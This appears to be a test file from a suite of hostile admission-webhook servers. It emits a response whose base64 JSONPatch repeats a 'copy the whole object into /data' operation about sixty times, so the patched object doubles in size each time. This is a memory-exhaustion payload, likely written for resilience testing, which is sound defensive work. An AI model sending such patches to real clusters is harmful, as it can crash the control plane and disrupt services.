// Tries to double the object a hundred times by copying it into itself.
#include "hostile.h"

ATTACK {
  say(HEAD "\"uid\":\"");
  say_uid();
  say("\",\"allowed\":true,\"patchType\":\"JSONPatch\",\"patch\":\"");
  say_base64("[  ");
  repeat("eyJvcCI6ImNvcHkiLCJmcm9tIjoiIiwicGF0aCI6Ii9kYXRhIn0s", 60);
  say_base64("{\"op\":\"copy\",\"from\":\"\",\"path\":\"/data\"}]");
  say("\"" TAIL);
}
